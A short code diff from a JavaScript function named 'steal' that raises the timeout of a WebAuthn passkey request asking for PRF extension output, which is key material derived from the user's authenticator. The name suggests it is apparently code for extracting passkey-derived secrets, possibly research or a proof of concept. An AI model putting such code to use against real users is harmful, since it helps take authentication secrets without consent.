@@ -134,7 +134,7 @@ async function steal(
             challenge: new Uint8Array(32),
             allowCredentials: [{ type: "public-key", id: id.slice() }],
             userVerification,
-            timeout: 2_000,
+            timeout: 60_000,
             extensions: { prf: { eval: { first: salt.slice() } } },
           },
         }).catch(() => null);
